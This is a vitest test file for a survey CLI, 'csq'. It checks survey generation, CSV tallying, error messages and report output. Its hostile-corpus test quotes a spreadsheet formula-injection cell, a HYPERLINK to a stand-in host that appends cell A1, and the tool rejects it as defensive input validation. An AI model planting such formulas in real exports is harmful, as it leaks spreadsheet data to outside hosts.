/** `csq survey make` and `csq survey tally` through the built CLI: outputs, exit codes, located problems. */
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadQuestionnaire, resolveProfile } from '../../src/core/questionnaire.js';
import { surveyHeader } from '../../src/core/survey.js';
import { csq, fixture, tempDir } from '../helpers.js';

const q = loadQuestionnaire(readFileSync('questionnaires/csq.en.yaml', 'utf8'), 'csq.en.yaml');
const survey = (...parts: string[]) => fixture('survey', ...parts);
const json = (text: string) => JSON.parse(text) as Record<string, any>;

describe('csq survey make', () => {
  it('writes the survey as Markdown on stdout: the customers’ wordings, never a statement left out, each area’s importance', () => {
    const run = csq(['survey', 'make']);
    expect(run.code).toBe(0);
    expect(run.stdout).toMatch(/^# Customer survey\n/);
    expect(run.stdout).toContain('14. They make it easy to do business with them.');
    expect(run.stdout).toContain('How much does it matter to you that they are easy to deal with and put problems right?');
    expect(run.stdout).toContain('How likely are you to recommend us to a friend or colleague?');
    expect(run.stdout).toContain('What are the three things you want most from us?');
    // Statements with no meaning to a customer are not asked in any wording.
    expect(run.stdout).not.toContain('respected');
    expect(run.stdout).not.toContain('We ');
    expect(run.stdout).not.toContain('And how does');
    expect(run.stderr).toBe('');
  });

  it('words the competitor question with the name given, escaped for Markdown, in the language asked', () => {
    const run = csq(['survey', 'make', '--competitor', 'Bob’s *Bakery*', '--lang', 'pt']);
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('E como Bob’s \\*Bakery\\* se sai nisto?');
    expect(run.stdout).toContain('# Pesquisa com os clientes');
  });

  it('writes the CSV header of the response format, and refuses to replace a file without --force', () => {
    const dir = tempDir();
    const out = path.join(dir, 'survey.csv');
    const run = csq(['survey', 'make', '-o', out, '--competitor', 'X', '--no-staff']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe(`Wrote ${out}\n`);
    const header = readFileSync(out, 'utf8');
    expect(header).toBe(`${surveyHeader(q, { profile: resolveProfile(q, { staff: false }), competitor: 'X' }).join(',')}\r\n`);
    expect(header).toContain('competitor.delight,importance.outreach,');
    expect(header).not.toContain('importance.staff');
    const again = csq(['survey', 'make', '-o', out]);
    expect(again.code).toBe(2);
    expect(again.stderr).toBe(`csq: ${out} already exists; use --force to replace it\n`);
    expect(csq(['survey', 'make', '-o', out, '--force']).code).toBe(0);
    expect(readFileSync(out, 'utf8')).not.toContain('competitor.');
  });

  it('writes the paper survey as one HTML file: its language and direction, every question, the competitor escaped, no script', () => {
    const dir = tempDir();
    const en = path.join(dir, 'survey.html');
    expect(csq(['survey', 'make', '-o', en, '--competitor', '<b>Bob</b> & Co']).code).toBe(0);
    const html = readFileSync(en, 'utf8');
    expect(html).toContain('<html lang="en" dir="ltr">');
    expect(html).not.toMatch(/<script|<b>Bob/);
    expect(html).toContain('&lt;b&gt;Bob&lt;/b&gt; &amp; Co');
    const q = loadQuestionnaire(readFileSync(path.join(process.cwd(), 'questionnaires', 'csq.en.yaml'), 'utf8'), 'csq.en.yaml');
    const asked = q.sections.flatMap((s) => s.statements).filter((st) => typeof st.customer === 'string');
    const escape = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
    expect(asked.filter((st) => !html.includes(escape(st.customer!))).map((st) => st.id)).toEqual([]);
    const he = path.join(dir, 'seker.htm');
    expect(csq(['survey', 'make', '--lang', 'he', '-o', he]).code).toBe(0);
    expect(readFileSync(he, 'utf8')).toContain('<html lang="he" dir="rtl">');
  });

  it('refuses a PDF without a browser and any format it does not write, writing nothing', () => {
    const dir = tempDir();
    const pdf = csq(['survey', 'make', '-o', path.join(dir, 'survey.pdf')], { env: { CHROME_PATH: path.join(dir, 'no-browser') } });
    expect(pdf.code).toBe(2);
    expect(pdf.stderr).toContain('csq never downloads one');
    expect(existsSync(path.join(dir, 'survey.pdf'))).toBe(false);
    const docx = csq(['survey', 'make', '-o', path.join(dir, 'survey.docx')]);
    expect(docx.code).toBe(2);
    expect(docx.stderr).toContain('the survey is written as .html or .pdf (on paper), .md or .txt, or .csv');
    expect(existsSync(path.join(dir, 'survey.docx'))).toBe(false);
  });

  it('speaks every word from the catalogues (the pseudo-locale)', () => {
    const run = csq(['survey', 'make', '--lang', 'en-XA', '--competitor', 'Ŕíṽáĺ']);
    expect(run.code).toBe(0);
    // Every text is bracketed; what is left is Markdown, numbers and the boxes.
    let rest = run.stdout.replace(/Ŕíṽáĺ/g, '');
    // Innermost first: a scale label is bracketed inside the bracketed line it fills.
    for (let before = ''; before !== rest; ) [before, rest] = [rest, rest.replace(/⟦[^⟦⟧]*⟧/g, '')];
    expect(rest).toMatch(/^[#\s\d.·☐*()\\_:–-]*$/u);
  });
});

describe('csq survey tally', () => {
  it('reads Google Forms’ export (commas, English texts) and Microsoft Forms’ (a BOM, semicolons, CRLF, Portuguese texts) alike', () => {
    const dir = tempDir();
    const google = csq(['survey', 'tally', survey('google-forms.csv'), '-o', path.join(dir, 'g.json')]);
    const microsoft = csq(['survey', 'tally', survey('microsoft-forms.csv')]);
    expect(google.code).toBe(0);
    expect(microsoft.code).toBe(0);
    const g = json(readFileSync(path.join(dir, 'g.json'), 'utf8'));
    const m = json(microsoft.stdout);
    expect(g).toMatchObject({ schemaVersion: 1, questionnaire: 'csq', responses: 30, skipped: 0, anecdotal: false });
    // The same 30 responses in both: the same figures.
    for (const key of ['areas', 'statements', 'nps', 'requests']) expect(m[key], key).toEqual(g[key]);
    expect(g.areas).toHaveLength(7);
    expect(g.areas.every((a: any) => a.answers === 30 && a.competitor.answers === 30 && a.importance.answers === 30)).toBe(true);
    expect(g.requests[0]).toEqual({ text: 'lower prices', count: 14 });
    expect(google.stderr).toContain('note: columns that are not questions of the survey were ignored: Timestamp\n');
    expect(google.stderr).toMatch(/\nNet Promoter Score: -?\d+(\.\d)? ± \d+(\.\d)? points \(answers: 30\)\n/);
    expect(google.stderr).toContain(`Wrote ${path.join(dir, 'g.json')}`);
    expect(microsoft.stderr).toContain('ignored: ID, Hora de início, Hora de conclusão, Email, Nome\n');
    const both = json(csq(['survey', 'tally', survey('google-forms.csv'), survey('microsoft-forms.csv'), '-q']).stdout);
    expect(both.responses).toBe(60);
    expect(both.nps.score).toBe(g.nps.score);
  });

  it('reports each bad row of the hostile corpus located, skips it, and counts the rest', () => {
    const cases: Record<string, { code: number; stderr: string[]; responses?: number }> = {
      'formula-cells.csv': {
        code: 0,
        responses: 1,
        stderr: [
          // A quote inside a field that does not start with one is text, as spreadsheets read it.
          ':2:1 delight: expected a rating, a whole number from 1 to 5, found "=HYPERLINK(\\"http://x.example/?\\"&A1;\\"clic…" (the row is skipped)',
          ':3:1 delight: expected a rating, a whole number from 1 to 5, found "+5" (the row is skipped)',
          ':4:2 easy-to-deal: expected a rating, a whole number from 1 to 5, found "-3" (the row is skipped)',
        ],
      },
      'quoted-newlines.csv': { code: 0, responses: 2, stderr: [':7:2 wants: a quoted field is not closed before the end of the file (the row is skipped)'] },
      'wrong-columns.csv': { code: 0, responses: 2, stderr: [':3:1 the row has 2 fields, the header 3; the row is skipped', ':4:1 the row has 4 fields, the header 3; the row is skipped'] },
      'out-of-scale.csv': {
        code: 0,
        responses: 1,
        stderr: [
          ':2:1 delight: 6 is outside the scale 1–5 (the row is skipped)',
          ':3:1 delight: 0 is outside the scale 1–5 (the row is skipped)',
          ':3:2 recommend: 11 is outside the scale 0–10 (the row is skipped)',
          ':3:3 importance.outreach: 9 is outside the scale 1–5 (the row is skipped)',
          ':4:1 delight: expected a rating, a whole number from 1 to 5, found "4,5" (the row is skipped)',
          ':5:2 recommend: expected a rating, a whole number from 0 to 10, found "ten" (the row is skipped)',
        ],
      },
      'no-survey-columns.csv': { code: 2, stderr: [':1:1 no column of the header is a question of the survey (start from the header of `csq survey make -o survey.csv`)'] },
      'same-question-twice.csv': { code: 2, stderr: [':1:3 column 3 asks the same question (delight) as column 1'] },
      // The column `x"y` names no question: ignored (and named without -q), the rest counted.
      'header-stray-quote.csv': { code: 0, responses: 1, stderr: [] },
    };
    for (const [name, expected] of Object.entries(cases)) {
      const file = survey('hostile', name);
      const run = csq(['survey', 'tally', file, '-q']);
      expect(run.code, name).toBe(expected.code);
      const problems = run.stderr.split('\n').filter((line) => line.startsWith(file));
      expect(problems, name).toEqual(expected.stderr.map((line) => `${file}${line}`));
      expect(run.stderr, name).not.toMatch(/at .*\.(c?js|ts):\d+/);
      if (expected.code === 0) {
        expect(json(run.stdout).responses, name).toBe(expected.responses);
        expect(run.stderr, name).toContain(`warning: fewer than 10 responses (${expected.responses}): the figures are anecdotes, not measurements`);
      } else expect(run.stdout, name).toBe('');
    }
  });

  it('keeps formula-like text as text, and quoted line breaks inside one answer', () => {
    const c = json(csq(['survey', 'tally', survey('hostile', 'quoted-newlines.csv'), '-q']).stdout);
    expect(c.requests).toEqual([
      { text: 'first line', count: 1 },
      { text: 'second line', count: 1 },
      { text: 'third, with a comma', count: 1 },
      { text: 'he said "faster"', count: 1 },
    ]);
  });

  it('with --strict, writes nothing and exits 2 when any row has a problem', () => {
    const dir = tempDir();
    const out = path.join(dir, 'customers.json');
    const run = csq(['survey', 'tally', survey('hostile', 'wrong-columns.csv'), '-o', out, '--strict']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('wrong-columns.csv:3:1 the row has 2 fields');
    expect(existsSync(out)).toBe(false);
  });

  it('refuses what is no responses file, with a located message and exit 2', () => {
    const dir = tempDir();
    const write = (name: string, content: string | Buffer) => (writeFileSync(path.join(dir, name), content), path.join(dir, name));
    const cases: [string, string][] = [
      [write('empty.csv', ''), 'empty.csv:1:1 the file has no header row'],
      [write('header-only.csv', 'delight,recommend\r\n'), 'header-only.csv: no response could be counted'],
      [write('utf16.csv', Buffer.from('\ufffedelight', 'utf16le')), 'utf16.csv:1:1 the file is UTF-16 (save it as UTF-8)'],
      [write('binary.csv', Buffer.from([0x64, 0x65, 0x00, 0x01])), 'binary.csv:1:3 control character U+0000 is not allowed (is this a text file?)'],
    ];
    for (const [file, message] of cases) {
      const run = csq(['survey', 'tally', file]);
      expect(run.code, file).toBe(2);
      expect(run.stderr, file).toBe(`${path.dirname(file)}/${message}\n`);
      expect(run.stdout).toBe('');
    }
    const large = write('large.csv', Buffer.alloc(17_000_000, 'a'));
    expect(csq(['survey', 'tally', large]).stderr).toBe(`${large}: the file is 16.2 MiB, more than the 16.0 MiB csq reads\n`);
    const twice = csq(['survey', 'tally', survey('google-forms.csv'), `${path.dirname(survey('google-forms.csv'))}/../survey/google-forms.csv`]);
    expect(twice.code).toBe(2);
    expect(twice.stderr).toContain('is listed twice');
    const txt = csq(['survey', 'tally', survey('google-forms.csv'), '-o', path.join(dir, 'x.txt')]);
    expect(txt.code).toBe(2);
    expect(txt.stderr).toContain('the tally is written as .json');
  });

  it('tallies 100,000 rows, bad ones among them, within bounds: problems capped, nothing crashes', () => {
    const dir = tempDir();
    const rows = ['delight,easy-to-deal,recommend,wants'];
    for (let i = 0; i < 100_000; i++) rows.push(i % 1000 === 999 ? `9,1,10,` : `${1 + (i % 5)},${1 + ((i * 7) % 5)},${i % 11},"want ${i % 3}"`);
    const file = path.join(dir, 'big.csv');
    writeFileSync(file, `${rows.join('\n')}\n`);
    const started = Date.now();
    const run = csq(['survey', 'tally', file, '-q']);
    expect(run.code).toBe(0);
    const c = json(run.stdout);
    expect(c.responses).toBe(99_900);
    expect(c.skipped).toBe(100);
    expect(c.requests).toHaveLength(3);
    // 100 problems shown, none more: the cap is 100 a file.
    expect(run.stderr.split('\n').filter((l) => l.startsWith(file))).toHaveLength(100);
    expect(Date.now() - started).toBeLessThan(20_000);
  }, 30_000);
});

describe('csq report --customers: the gap in the plan', () => {
  const tally = (dir: string, file: string) => {
    const out = path.join(dir, 'customers.json');
    expect(csq(['survey', 'tally', file, '-o', out, '-q']).code).toBe(0);
    return out;
  };

  it('puts the customers’ view beside the owner’s per area, re-ranks the priorities, and lists the requests the owner’s lists missed', () => {
    const dir = tempDir();
    // By hand: NPS 50% − 50% = 0 ± 1.96 × √(1 / 2) × 100 = 138.6; outreach 4, 5 → 90% and 2, 3 → 50%: 70%; importance outreach 5, 5 and errors 1, 1: weights 5/6 and 1/6.
    const responses = path.join(dir, 'responses.csv');
    writeFileSync(responses, 'delight,easy-to-deal,review-complaints,importance.outreach,importance.errors,recommend,wants\n4,5,5,5,1,10,Faster quotes\n2,3,5,5,1,3,Parking\n');
    const customers = tally(dir, responses);
    const run = csq(['report', fixture('full.yaml'), '--customers', customers]);
    expect(run.code).toBe(0);
    const plan = run.stdout;
    const b = plan.slice(plan.indexOf('## B.'), plan.indexOf('## C.'));
    expect(b).toContain('### What your customers say\n\nSurvey responses: 2. Net Promoter Score: 0 ± 138.6 points (answers: 2). *Fewer than 10 responses');
    expect(b).toContain('| Area | Your score | Customers | Gap (points) | Importance | Competitor | |');
    // full.yaml rates outreach 73% (11 of 15): the customers' 70% is 3 points below.
    expect(b).toMatch(/\| Customer outreach \| 73% \| 70% \| -3 \| 83% \| – \| `[█░]{10}`<br>`[█░]{10}` \|/);
    expect(b).toMatch(/\| Error reduction \| 47% \| 100% \| \+53 \| 17% \| – \|/);
    expect(b).toContain('| Leadership and commitment | 80% | – | – | – | – | `████████░░` |');
    // Outreach misses 30 points at a weight of 5/6; errors misses none, so it is no priority of theirs.
    expect(b).toContain('the priorities are Customer outreach. Yours: Error reduction, Skilled and empowered staff, and Using customer information.');
    expect(b).toContain('**Customers’ top requests, from the survey:** 1. faster quotes (1) · 2. parking (1)');
    // "Faster quotes" is on the owner's own list; parking is not.
    expect(b).toContain('**Not on your own lists:** parking\n');
    // Without --customers, the plan is as before.
    expect(csq(['report', fixture('full.yaml')]).stdout).not.toContain('What your customers say');
  });

  it('draws the gap in the HTML plan: per area the owner’s bar above the customers’, their priorities marked, after the customers’ table', () => {
    const dir = tempDir();
    const responses = path.join(dir, 'responses.csv');
    writeFileSync(responses, 'delight,easy-to-deal,review-complaints,importance.outreach,importance.errors,recommend,wants\n4,5,5,5,1,10,Faster quotes\n2,3,5,5,1,3,Parking\n');
    const customers = tally(dir, responses);
    const out = path.join(dir, 'plan.html');
    expect(csq(['report', fixture('full.yaml'), '--customers', customers, '-o', out, '-q']).code).toBe(0);
    const html = readFileSync(out, 'utf8');
    const table = html.indexOf('Gap (points)</th>');
    const chart = html.indexOf('<svg class="chart" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640', table);
    expect(table).toBeGreaterThan(0);
    expect(chart).toBeGreaterThan(table);
    expect(html.indexOf('Customers’ top requests')).toBeGreaterThan(chart);
    const svg = html.slice(chart, html.indexOf('</svg>', chart));
    expect(svg).toContain('aria-labelledby="chart-gap-title chart-gap-desc"');
    expect(svg).toContain('<title id="chart-gap-title">Your score and your customers’, per area</title>');
    // One row per area that applies, in the questionnaire's order, each with the owner's number first.
    const rows = [...svg.matchAll(/<g class="row( priority)?"><title>([^<]*)<\/title>/g)].map((m) => `${m[2]}${m[1] ? ' *' : ''}`);
    expect(rows).toHaveLength(7);
    expect(rows).toContain('Customer outreach: 73% · 70% *');
    expect(rows).toContain('Error reduction: 47% · 100%');
    expect(rows).toContain('Leadership and commitment: 80% · –');
    expect(rows.filter((r) => r.endsWith(' *'))).toHaveLength(1);
    // The customers' priorities are numbered: outreach, the one they miss anything in.
    expect(svg).toMatch(/>1\. Customer outreach</);
    expect(svg).toMatch(/>Error reduction</);
    expect(svg).toContain('>Your score</text>');
    expect(svg).toContain('>Customers’ priority</text>');
    // Without the customers' view, the HTML plan has one chart, the owner's.
    const plain = path.join(dir, 'plain.html');
    expect(csq(['report', fixture('full.yaml'), '-o', plain, '-q']).code).toBe(0);
    expect(readFileSync(plain, 'utf8')).not.toContain('chart-gap');
  });

  it('reads the customers’ view from a customers: block in the answers file, located where it stands; --customers replaces it; csq validate knows customers.json', () => {
    const dir = tempDir();
    const responses = path.join(dir, 'responses.csv');
    writeFileSync(responses, 'delight,easy-to-deal,importance.outreach,recommend,wants\n4,5,5,10,Parking\n2,3,5,3,Parking\n5,5,4,9,\n');
    const customers = tally(dir, responses);
    const indented = readFileSync(customers, 'utf8').replace(/^/gm, '  ').trimEnd();
    const answers = path.join(dir, 'answers.yaml');
    writeFileSync(answers, `${readFileSync(fixture('full.yaml'), 'utf8').trimEnd()}\ncustomers:\n${indented}\n`);
    const own = csq(['report', answers]);
    expect(own.code).toBe(0);
    expect(own.stdout).toContain('### What your customers say\n\nSurvey responses: 3.');
    expect(own.stdout).toContain('**Customers’ top requests, from the survey:** 1. parking (2)');
    expect(csq(['validate', answers, customers]).stdout).toBe(`${answers}: ok (answers for csq, 25 ratings)\n${customers}: ok (survey tally for csq, 3 responses)\n`);

    // --customers replaces the block for one run.
    const other = path.join(dir, 'other.csv');
    writeFileSync(other, 'delight,wants\n1,Lower prices\n');
    const otherOut = path.join(dir, 'other.json');
    expect(csq(['survey', 'tally', other, '-o', otherOut, '-q']).code).toBe(0);
    const replaced = csq(['report', answers, '--customers', otherOut]).stdout;
    expect(replaced).toContain('Survey responses: 1.');
    expect(replaced).not.toContain('parking');

    // A wrong figure inside the block: its own line and column in the answers file, and no plan.
    const lines = readFileSync(answers, 'utf8').split('\n');
    // The first area with a score: outreach, the fifth (leadership to errors have no answers).
    const at = lines.findIndex((line) => /^ {8}"score": \d/.test(line));
    lines[at] = lines[at]!.replace(/\d+(\.\d+)?/, '140');
    writeFileSync(answers, lines.join('\n'));
    const bad = csq(['report', answers, '-o', path.join(dir, 'plan.md')]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toBe(`${answers}:${at + 1}:18 customers.areas[4].score: 140 is above the maximum 100\n`);
    expect(existsSync(path.join(dir, 'plan.md'))).toBe(false);
    const foreign = readFileSync(answers, 'utf8').replace(/"score": 140/, '"score": 70').replace('"questionnaire": "csq"', '"questionnaire": "other"');
    writeFileSync(answers, foreign);
    const line = foreign.split('\n').findIndex((l) => l.includes('"questionnaire": "other"')) + 1;
    expect(csq(['validate', answers]).stderr).toBe(`${answers}:${line}:22 customers.questionnaire: this tally is for questionnaire "other", not "csq"\n`);
  });

  it('dates the next survey from the day the survey closed and how often the customers buy; a saved Result keeps the business', () => {
    const dir = tempDir();
    const responses = path.join(dir, 'responses.csv');
    writeFileSync(responses, 'delight,recommend,wants\n4,10,Parking\n2,3,\n');
    const customers = path.join(dir, 'customers.json');
    const wrong = csq(['survey', 'tally', responses, '--date', '2026-02-30', '-o', customers]);
    expect(wrong.code).toBe(2);
    expect(wrong.stderr).toBe('csq: --date must be a date like 2026-11-30, not "2026-02-30"\n');
    expect(existsSync(customers)).toBe(false);
    const run = csq(['survey', 'tally', responses, '--date', '2026-11-30', '-o', customers]);
    expect(run.code).toBe(0);
    expect(run.stderr).toContain('Responses counted: 2 (from ');
    expect(run.stderr).toContain('\nSurveyed: 2026-11-30\n');
    expect(json(readFileSync(customers, 'utf8')).surveyed).toBe('2026-11-30');

    const line = (answers: string, ...more: string[]) => {
      const plan = csq(['report', answers, '--customers', customers, ...more]);
      expect(plan.code).toBe(0);
      return plan.stdout.split('\n').find((l) => l.includes('again'));
    };
    // Without a word on the business: twice a year, and how to say more.
    expect(line(fixture('full.yaml'))).toBe(
      '**Survey your customers again by May 30, 2027**, 6 months after this survey. How often to ask depends on volume and value (a fast-food restaurant asks continuously, a maker of large equipment yearly): say how often your customers buy under business: in the answers, and csq times it for you. Until then, twice a year.',
    );
    const answers = path.join(dir, 'answers.yaml');
    const describe = (business: string) => writeFileSync(answers, `${readFileSync(fixture('full.yaml'), 'utf8').trimEnd()}\nbusiness:\n${business}\n`);
    describe('  buys: daily\n  customersPerMonth: 500');
    expect(line(answers)).toBe(
      '**Survey your customers again by December 30, 2026**, a month after this survey. Customer data must be ongoing, and how often to ask depends on volume and value: your customers buy every day. (The guide’s examples: a fast-food restaurant asks continuously, a maker of large equipment yearly.)',
    );
    // Weekly says three months; 20 customers a month are 60 by then, so six (120).
    describe('  buys: weekly\n  customersPerMonth: 20');
    expect(line(answers)).toBe(
      '**Survey your customers again by May 30, 2027**, 6 months after this survey. With about 20 customers a month, a shorter wait would bring fewer than 10 answers (csq assumes that one customer in ten answers): too few to be more than anecdotes.',
    );
    // The same from the saved Result, and in Polish: the business travels with the scores.
    const result = path.join(dir, 'result.json');
    expect(csq(['report', answers, '-f', 'json', '-o', result, '-q']).code).toBe(0);
    expect(json(readFileSync(result, 'utf8')).business).toEqual({ buys: 'weekly', customersPerMonth: 20 });
    expect(line(result)).toBe(line(answers));
    expect(csq(['report', result, '--customers', customers, '--lang', 'pl']).stdout).toContain('**Ponownie zapytaj klientów do 30 maja 2027**, 6 miesięcy po tej ankiecie. Przy około 20 klientach miesięcznie');
    // A tally written before the date was kept: the interval alone.
    writeFileSync(customers, readFileSync(customers, 'utf8').replace('  "surveyed": "2026-11-30",\n', ''));
    expect(line(answers)).toMatch(/^\*\*Survey your customers again 6 months after this survey\.\*\* With about 20 customers/);
    // A rhythm csq does not know: located, and no plan.
    describe('  buys: often');
    const lineNo = readFileSync(answers, 'utf8').split('\n').indexOf('  buys: often') + 1;
    const bad = csq(['validate', answers]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(new RegExp(`^${answers.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}:${lineNo}:9 business\.buys: `));
    expect(bad.stderr).toContain('daily');
  });

  it('keeps the customers’ view in the saved Result and in a team’s combined one, checked where it stands', () => {
    const dir = tempDir();
    const responses = path.join(dir, 'responses.csv');
    writeFileSync(responses, 'delight,easy-to-deal,importance.outreach,recommend,wants\n4,5,5,10,Parking\n2,3,5,3,Parking\n');
    const customers = tally(dir, responses);
    const result = path.join(dir, 'result.json');
    expect(csq(['report', fixture('full.yaml'), '--customers', customers, '-f', 'json', '-o', result, '-q']).code).toBe(0);
    const saved = json(readFileSync(result, 'utf8'));
    expect(saved.customers).toEqual(json(readFileSync(customers, 'utf8')));
    // The plan from the Result alone shows what the plan from the answers and --customers shows.
    const fromResult = csq(['report', result]);
    expect(fromResult.code).toBe(0);
    expect(fromResult.stdout).toContain('| Customer outreach | 73% | 70% | -3 | 100% | – |');
    expect(fromResult.stdout).toBe(csq(['report', fixture('full.yaml'), '--customers', customers]).stdout);
    // A team's combined plan carries the survey that one respondent's answers hold.
    const indented = readFileSync(customers, 'utf8').replace(/^/gm, '  ').trimEnd();
    const withBlock = path.join(dir, 'clerk.yaml');
    writeFileSync(withBlock, `${readFileSync(fixture('team', 'clerk.yaml'), 'utf8').trimEnd()}\ncustomers:\n${indented}\n`);
    const team = csq(['team', fixture('team', 'owner.yaml'), withBlock, fixture('team', 'manager.yaml')]);
    expect(team.code).toBe(0);
    expect(team.stdout).toContain('### What your customers say\n\nSurvey responses: 2.');
    // A saved Result's tally of another questionnaire: located in the Result, and no plan.
    const foreign = readFileSync(result, 'utf8').replace(/("customers": \{\n\s+"schemaVersion": 1,\n\s+"questionnaire": )"csq"/, '$1"other"');
    expect(foreign).not.toBe(readFileSync(result, 'utf8'));
    writeFileSync(result, foreign);
    const line = foreign.split('\n').findIndex((l) => l.includes('"questionnaire": "other"')) + 1;
    const bad = csq(['report', result]);
    expect(bad.code).toBe(2);
    expect(bad.stdout).toBe('');
    expect(bad.stderr).toBe(`${result}:${line}:22 customers.questionnaire: this tally is for questionnaire "other", not "csq"\n`);
  });

  it('refuses a customers.json that is not one, located, with exit 2 and no plan', () => {
    const dir = tempDir();
    const bad = path.join(dir, 'customers.json');
    writeFileSync(bad, '{\n  "schemaVersion": 1,\n  "questionnaire": "other",\n  "responses": -1,\n  "anecdotal": true,\n  "areas": [],\n  "nps": { "answers": 0, "score": null, "margin": null },\n  "requests": []\n}\n');
    const run = csq(['report', fixture('full.yaml'), '--customers', bad]);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toContain(`${bad}:4:16 responses: -1 is below the minimum 0`);
    writeFileSync(bad, readFileSync(bad, 'utf8').replace('-1', '3'));
    expect(csq(['report', fixture('full.yaml'), '--customers', bad]).stderr).toBe(`${bad}:3:20 questionnaire: this tally is for questionnaire "other", not "csq"\n`);
  });
});
